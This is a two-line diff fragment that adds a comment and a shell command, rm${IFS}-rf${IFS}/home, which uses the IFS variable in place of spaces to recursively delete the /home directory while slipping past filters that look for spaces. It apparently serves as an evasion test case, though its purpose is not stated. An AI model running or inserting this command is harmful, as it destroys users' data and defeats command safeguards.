@@ -1,0 +1,2 @@
+# tricky: the space is a variable
+rm${IFS}-rf${IFS}/home
